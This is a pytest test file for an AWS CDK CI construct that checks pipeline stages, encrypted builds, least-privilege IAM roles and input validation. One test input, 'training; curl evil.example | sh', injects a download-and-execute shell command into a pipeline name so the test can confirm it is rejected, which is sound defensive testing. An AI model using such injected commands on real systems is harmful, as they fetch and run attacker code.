"""BasicCi: CodePipeline V2 (S3 or CodeConnections source), Test and RunPipeline builds, least privilege."""

from __future__ import annotations

import itertools
import json
from dataclasses import dataclass
from typing import Any

import aws_cdk as cdk
import pytest
from aws_cdk import aws_iam as iam
from aws_cdk import aws_kms as kms
from aws_cdk import aws_s3 as s3
from aws_cdk.assertions import Template

from cdk_mlops.constructs import BasicCi, CiSource, TrainingPipeline, TrainingPipelineBase
from tests.cdk_mlops.construct_fixtures import (
    TemplateView,
    arn_of,
    as_list,
    logical_id,
    role_statements,
)
from tests.cdk_mlops.helpers import new_app
from tests.cdk_mlops.level2_fixtures import all_actions, ref_of, rendered

CONNECTION = "arn:aws:codeconnections:eu-west-1:111122223333:connection/0a1b2c3d-4e5f"


@dataclass
class Built(TemplateView):
    template: Template
    s3_ci: BasicCi
    git_ci: BasicCi
    other_ci: BasicCi

    def pipeline(self, ci: str) -> dict[str, Any]:
        lids = [
            lid
            for lid in self.template.find_resources("AWS::CodePipeline::Pipeline")
            if lid.startswith(ci)
        ]
        (lid,) = lids
        props: dict[str, Any] = self.resources[lid]["Properties"]
        return props

    def stage(self, ci: str, name: str) -> dict[str, Any]:
        (stage,) = [s for s in self.pipeline(ci)["Stages"] if s["Name"] == name]
        (action,) = stage["Actions"]
        return dict(action)

    def build_commands(self, project: str) -> list[str]:
        spec = json.loads(self.props("AWS::CodeBuild::Project", project)["Source"]["BuildSpec"])
        commands: list[str] = spec["phases"]["build"]["commands"]
        return commands

    def statements(self, role_prefix: str) -> list[dict[str, Any]]:
        return role_statements(self.template, self.lid("AWS::IAM::Role", role_prefix))

    def roles_of(self, ci: str) -> list[str]:
        return [lid for lid in self.template.find_resources("AWS::IAM::Role") if lid.startswith(ci)]


@pytest.fixture(scope="module")
def built() -> Built:
    stack = cdk.Stack(new_app(), "Ci")
    key = kms.Key(stack, "ArtifactsKey", enable_key_rotation=True)
    logs_key = kms.Key(stack, "LogsKey", enable_key_rotation=True)
    bucket = s3.Bucket(stack, "Artifacts", versioned=True, encryption_key=key, enforce_ssl=True)
    common: dict[str, Any] = {
        "artifact_bucket": bucket,
        "encryption_key": key,
        "logs_key": logs_key,
    }

    def pipeline(name: str) -> TrainingPipelineBase:
        return TrainingPipeline.from_pipeline_name(stack, f"Imported{name}", name)

    s3_ci = BasicCi(stack, "S3Ci", training_pipeline=pipeline("Churn-Training"), **common)
    git_ci = BasicCi(
        stack,
        "GitCi",
        training_pipeline=pipeline("git-training"),
        source=CiSource.connection(CONNECTION, "acme/churn-ml", branch="release"),
        test_commands=["pip install -e .", "pytest -q"],
        wait_for_pipeline=False,
        build_timeout=cdk.Duration.minutes(30),
        **common,
    )
    uploads = s3.Bucket(stack, "Uploads", versioned=True, encryption_key=key)
    other_ci = BasicCi(
        stack,
        "OtherCi",
        training_pipeline=pipeline("other"),
        source=CiSource.s3_object(uploads, "projects/churn.zip"),
        **common,
    )
    return Built(Template.from_stack(stack), s3_ci, git_ci, other_ci)


# ---------------------------------------------------------------------------------- pipeline


def test_pipeline_is_v2_with_encrypted_artifacts(built: Built) -> None:
    pipeline = built.pipeline("S3Ci")
    assert pipeline["PipelineType"] == "V2"
    assert pipeline["RestartExecutionOnUpdate"] is False
    assert pipeline["ArtifactStore"] == {
        "Type": "S3",
        "Location": ref_of(built.lid("AWS::S3::Bucket", "Artifacts")),
        "EncryptionKey": {"Type": "KMS", "Id": arn_of(built.lid("AWS::KMS::Key", "ArtifactsKey"))},
    }


def test_stages_are_source_then_test_then_run_pipeline(built: Built) -> None:
    stages = built.pipeline("S3Ci")["Stages"]
    assert [s["Name"] for s in stages] == ["Source", "Test", "RunPipeline"]
    for name, project in (("Test", "S3CiTest"), ("RunPipeline", "S3CiRunPipeline")):
        action = built.stage("S3Ci", name)
        assert action["ActionTypeId"]["Provider"] == "CodeBuild"
        assert action["InputArtifacts"] == [{"Name": "Source"}]
        assert action["Configuration"] == {
            "ProjectName": ref_of(built.lid("AWS::CodeBuild::Project", project))
        }


def test_default_source_is_an_object_of_the_artifact_bucket_without_polling(built: Built) -> None:
    action = built.stage("S3Ci", "Source")
    assert action["ActionTypeId"]["Provider"] == "S3"
    assert action["Configuration"] == {
        "S3Bucket": ref_of(built.lid("AWS::S3::Bucket", "Artifacts")),
        "S3ObjectKey": "ci/source.zip",
        "PollForSourceChanges": False,
    }
    assert action["OutputArtifacts"] == [{"Name": "Source"}]


def test_an_s3_object_created_event_starts_the_pipeline(built: Built) -> None:
    rule = built.props("AWS::Events::Rule", "S3CiSourceChanged")
    assert rule["EventPattern"] == {
        "source": ["aws.s3"],
        "detail-type": ["Object Created"],
        "detail": {
            "bucket": {"name": [ref_of(built.lid("AWS::S3::Bucket", "Artifacts"))]},
            "object": {"key": ["ci/source.zip"]},
        },
    }
    (target,) = rule["Targets"]
    pipeline_lid = logical_id(built.template, "AWS::CodePipeline::Pipeline", "S3Ci")
    assert ref_of(pipeline_lid) in target["Arn"]["Fn::Join"][1]
    assert ":codepipeline:" in rendered(target["Arn"])
    assert "RoleArn" in target
    assert built.s3_ci.source_rule is not None


def test_a_custom_s3_source_watches_its_own_bucket_and_key(built: Built) -> None:
    assert built.stage("OtherCi", "Source")["Configuration"]["S3ObjectKey"] == "projects/churn.zip"
    pattern = built.props("AWS::Events::Rule", "OtherCiSourceChanged")["EventPattern"]
    assert pattern["detail"] == {
        "bucket": {"name": [ref_of(built.lid("AWS::S3::Bucket", "Uploads"))]},
        "object": {"key": ["projects/churn.zip"]},
    }


def test_a_connection_source_uses_codeconnections_and_no_s3_rule(built: Built) -> None:
    action = built.stage("GitCi", "Source")
    assert action["ActionTypeId"] == {
        "Category": "Source",
        "Owner": "AWS",
        "Provider": "CodeStarSourceConnection",
        "Version": "1",
    }
    assert action["Configuration"] == {
        "ConnectionArn": CONNECTION,
        "FullRepositoryId": "acme/churn-ml",
        "BranchName": "release",
    }
    assert built.git_ci.source_rule is None
    assert not [
        lid for lid in built.template.find_resources("AWS::Events::Rule") if lid.startswith("GitCi")
    ]


def test_only_the_source_action_may_use_the_connection(built: Built) -> None:
    users = [
        lid
        for lid in built.roles_of("GitCi")
        if "codestar-connections:UseConnection" in all_actions(role_statements(built.template, lid))
    ]
    assert users == [built.lid("AWS::IAM::Role", "GitCiSourceCodePipelineActionRole")]
    (use,) = [
        s
        for s in role_statements(built.template, users[0])
        if "codestar-connections:UseConnection" in as_list(s["Action"])
    ]
    assert use["Resource"] == CONNECTION


# ------------------------------------------------------------------------------- the builds


@pytest.mark.parametrize("project", ["S3CiTest", "S3CiRunPipeline"])
def test_builds_are_encrypted_unprivileged_and_log_to_encrypted_groups(
    built: Built, project: str
) -> None:
    props = built.props("AWS::CodeBuild::Project", project)
    assert props["EncryptionKey"] == arn_of(built.lid("AWS::KMS::Key", "ArtifactsKey"))
    assert props["Environment"]["PrivilegedMode"] is False
    assert props["Environment"]["Image"] == "aws/codebuild/standard:7.0"
    assert props["Source"]["Type"] == "CODEPIPELINE"
    assert props["TimeoutInMinutes"] == 90
    group = props["LogsConfig"]["CloudWatchLogs"]["GroupName"]["Ref"]
    assert built.resources[group]["Properties"] == {
        "KmsKeyId": arn_of(built.lid("AWS::KMS::Key", "LogsKey")),
        "RetentionInDays": 365,
    }
    assert built.resources[group]["DeletionPolicy"] == "Retain"


def test_test_build_runs_the_test_commands(built: Built) -> None:
    assert built.build_commands("S3CiTest") == ["make test"]
    assert built.build_commands("GitCiTest") == ["pip install -e .", "pytest -q"]


def test_run_build_starts_the_pipeline_and_waits_for_it(built: Built) -> None:
    start, echo, wait = built.build_commands("S3CiRunPipeline")
    assert "aws sagemaker start-pipeline-execution --pipeline-name Churn-Training " in start
    assert "--query PipelineExecutionArn" in start and echo == "echo started $ARN"
    assert "describe-pipeline-execution --pipeline-execution-arn $ARN" in wait
    assert "Failed|Stopped) exit 1" in wait and "Succeeded) exit 0" in wait


def test_run_build_need_not_wait(built: Built) -> None:
    commands = built.build_commands("GitCiRunPipeline")
    assert (
        len(commands) == 2
        and "start-pipeline-execution --pipeline-name git-training" in commands[0]
    )
    assert built.props("AWS::CodeBuild::Project", "GitCiTest")["TimeoutInMinutes"] == 30


def test_the_two_builds_have_separate_roles(built: Built) -> None:
    test_role = built.props("AWS::CodeBuild::Project", "S3CiTest")["ServiceRole"]
    run_role = built.props("AWS::CodeBuild::Project", "S3CiRunPipeline")["ServiceRole"]
    assert test_role != run_role


def test_only_run_pipeline_may_start_the_sagemaker_pipeline(built: Built) -> None:
    starters = [
        lid
        for lid in built.roles_of("S3Ci")
        if "sagemaker:StartPipelineExecution" in all_actions(role_statements(built.template, lid))
    ]
    assert starters == [built.lid("AWS::IAM::Role", "S3CiRunPipelineRole")]
    (statement,) = [
        s
        for s in built.statements("S3CiRunPipelineRole")
        if "sagemaker:StartPipelineExecution" in as_list(s["Action"])
    ]
    # The pipeline's own grant_start: start and follow executions of that pipeline only.
    assert set(as_list(statement["Action"])) == {
        "sagemaker:StartPipelineExecution",
        "sagemaker:DescribePipelineExecution",
        "sagemaker:ListPipelineExecutionSteps",
    }
    # SageMaker lower-cases pipeline names in ARNs.
    resources = [rendered(r) for r in as_list(statement["Resource"])]
    assert len(resources) == 2
    assert resources[0].endswith(':pipeline/churn-training"]]}')
    assert resources[1].endswith(':pipeline/churn-training/execution/*"]]}')


def test_the_test_build_has_no_sagemaker_permission(built: Built) -> None:
    actions = all_actions(built.statements("S3CiTestRole"))
    assert actions, "the test role has CDK's log and artifact grants"
    assert not [a for a in actions if a.startswith("sagemaker:") or a == "*"]


def test_no_role_has_wildcard_actions(built: Built) -> None:
    for lid in built.roles_of("S3Ci"):
        actions = all_actions(role_statements(built.template, lid))
        assert not [a for a in actions if a == "*" or a.endswith(":*")], lid


def test_pipeline_name_attribute(built: Built) -> None:
    resolved = cdk.Stack.of(built.s3_ci).resolve(built.s3_ci.pipeline_name)
    assert resolved == ref_of(logical_id(built.template, "AWS::CodePipeline::Pipeline", "S3Ci"))


# ---------------------------------------------------------------------------- failing cases

_ids = itertools.count()


@pytest.fixture(scope="module")
def bucket_stack() -> tuple[cdk.Stack, s3.Bucket, kms.Key]:
    """One unsynthesized stack for the failing cases (each builds under a new id)."""
    stack = cdk.Stack(new_app(), "Failing")
    key = kms.Key(stack, "Key")
    return stack, s3.Bucket(stack, "Bucket", versioned=True, encryption_key=key), key


def _ci(bucket_stack: tuple[cdk.Stack, s3.Bucket, kms.Key], **props: Any) -> BasicCi:
    stack, bucket, key = bucket_stack
    if "training_pipeline" not in props:
        props["training_pipeline"] = TrainingPipeline.from_pipeline_name(
            stack, f"Training{next(_ids)}", "training"
        )
    return BasicCi(
        stack, f"Ci{next(_ids)}", artifact_bucket=bucket, encryption_key=key, logs_key=key, **props
    )


@pytest.mark.parametrize(
    "arn",
    [
        "not-an-arn",
        "arn:aws:codecommit:eu-west-1:111122223333:repo",
        "arn:aws:codeconnections:eu-west-1:1111:connection/x",
    ],
)
def test_fails_when_the_connection_arn_is_not_a_connection(bucket_stack: Any, arn: str) -> None:
    with pytest.raises(
        ValueError, match=r"BasicCi at [\w/]+: source.connection_arn=.* arn:aws:codeconnections"
    ):
        _ci(bucket_stack, source=CiSource.connection(arn, "acme/ml"))


def test_accepts_a_codestar_connections_arn_and_a_token() -> None:
    stack = cdk.Stack(new_app(), "Tokens")
    key = kms.Key(stack, "Key")
    bucket = s3.Bucket(stack, "Bucket", versioned=True, encryption_key=key)
    for i, arn in enumerate(
        [
            "arn:aws:codestar-connections:us-east-1:111122223333:connection/abc",
            cdk.Fn.import_value("ConnectionArn"),
        ]
    ):
        ci = BasicCi(
            stack,
            f"Ci{i}",
            artifact_bucket=bucket,
            encryption_key=key,
            logs_key=key,
            training_pipeline=TrainingPipeline.from_pipeline_name(stack, f"P{i}", "training"),
            source=CiSource.connection(arn, "acme/ml"),
        )
        assert ci.source_rule is None


@pytest.mark.parametrize("repository", ["churn-ml", "acme/churn/ml", ""])
def test_fails_when_the_repository_is_not_owner_slash_name(
    bucket_stack: Any, repository: str
) -> None:
    with pytest.raises(ValueError, match=r"source.repository=.* 'owner/name'"):
        _ci(bucket_stack, source=CiSource.connection(CONNECTION, repository))


def test_fails_when_the_source_is_neither_s3_nor_a_connection(bucket_stack: Any) -> None:
    with pytest.raises(ValueError, match=r"BasicCi at [\w/]+: source=.*CiSource.s3_object"):
        _ci(bucket_stack, source=CiSource())


def test_fails_when_an_s3_source_has_no_key(bucket_stack: Any) -> None:
    with pytest.raises(ValueError, match=r"BasicCi at [\w/]+: source=.*CiSource.s3_object"):
        _ci(bucket_stack, source=CiSource(bucket=bucket_stack[1], object_key=""))


def test_fails_when_there_are_no_test_commands(bucket_stack: Any) -> None:
    with pytest.raises(ValueError, match=r"test_commands=\[\] .* at least one command"):
        _ci(bucket_stack, test_commands=[])


@dataclass
class _OtherPipeline:
    """Any ITrainingPipeline implementation: BasicCi checks the name it puts into a shell command."""

    pipeline_name: str
    pipeline_arn: str = "arn:aws:sagemaker:eu-west-1:111122223333:pipeline/x"

    def grant_start(self, grantee: iam.IGrantable) -> iam.Grant:
        raise AssertionError("the name check must come first")


@pytest.mark.parametrize("name", ["training; curl evil.example | sh", "my pipeline", "-x"])
def test_fails_when_the_pipeline_name_is_not_a_sagemaker_name(bucket_stack: Any, name: str) -> None:
    with pytest.raises(ValueError, match=r"BasicCi at [\w/]+: training_pipeline.pipeline_name="):
        _ci(bucket_stack, training_pipeline=_OtherPipeline(name))
    with pytest.raises(ValueError, match=r"pipeline_name=.*existing pipeline"):
        TrainingPipeline.from_pipeline_name(bucket_stack[0], f"Bad{next(_ids)}", name)
